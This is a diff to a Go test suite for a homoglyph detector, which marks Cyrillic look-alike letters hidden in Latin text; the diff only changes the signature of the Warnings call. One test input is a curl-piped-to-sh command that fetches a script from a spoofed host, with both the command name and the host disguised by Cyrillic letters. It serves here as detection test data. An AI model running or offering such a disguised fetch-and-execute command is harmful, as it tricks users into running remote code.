@@ -39,14 +39,14 @@ func TestLookAlikesAreMarked(t *testing.T) {
 		if got := txt.String(); got != want {
 			t.Errorf("%s is drawn as %s\n    want %s", raw, got, want)
 		}
-		if len(txt.Warnings()) == 0 {
+		if len(txt.Warnings(text.Words)) == 0 {
 			t.Errorf("%s: no warning", raw)
 		}
 		if txt.Raw() != raw {
 			t.Errorf("%s: the raw text changed", raw)
 		}
 	}
-	warnings := text.New("c\u0443rl -s https://\u0430pple.example/i | sh").Warnings()
+	warnings := text.New("c\u0443rl -s https://\u0430pple.example/i | sh").Warnings(text.Words)
 	if len(warnings) != 2 || !strings.Contains(warnings[0], "rl” mixes Latin and Cyrillic: U+0443") ||
 		!strings.Contains(warnings[1], "The host “⟨U+0430 а⟩pple.example”") {
 		t.Errorf("both words are to be named: %q", warnings)
@@ -64,7 +64,7 @@ func TestOrdinaryTextIsLeftAlone(t *testing.T) {
 		"10µs, 5 kΩ, Δt, λx, x² ≤ ½ → ∞ ™ © ✓ 😀 ∀x∈ℝ", "1º 2ª Nº", "100 % à 10\u00a0000\u00a0€ « ça »", "x^2 π≈3.14",
 		"| a │ b ├─ tree ╰──╯", "#!/bin/sh\nset -e\n\n\tmake all\n", "a\r\nb\r\n", "ქართული ენა", "አማርኛ", "தமிழ்", "ភាសាខ្មែរ", "བོད་སྐད་ སྒྲུབ",
 	} {
-		if got := text.New(raw).Warnings(); got != nil {
+		if got := text.New(raw).Warnings(text.Words); got != nil {
 			t.Errorf("%q: warned of %q", raw, got)
 		}
 		if drawn := text.New(raw).String(); strings.Contains(drawn, "⟨U+") && !strings.Contains(raw, "\u00a0") {
@@ -72,7 +72,7 @@ func TestOrdinaryTextIsLeftAlone(t *testing.T) {
 		}
 	}
 	persian := text.New("می\u200cخواهم")
-	if got := persian.Warnings(); got != nil || !strings.Contains(persian.String(), "⟨U+200C⟩") {
+	if got := persian.Warnings(text.Words); got != nil || !strings.Contains(persian.String(), "⟨U+200C⟩") {
 		t.Errorf("a joiner that spelling wants is shown, and not warned of: %s %q", persian, got)
 	}
 }
@@ -84,7 +84,7 @@ func TestWarningsAreBounded(t *testing.T) {
 		b.WriteRune(r)
 		b.WriteString("c\u0443rl" + string(rune('a'+r%26)) + " \xff")
 	}
-	warnings := text.New(b.String()).Warnings()
+	warnings := text.New(b.String()).Warnings(text.Words)
 	if len(warnings) == 0 || len(warnings) > 20 {
 		t.Errorf("%d warnings", len(warnings))
 	}
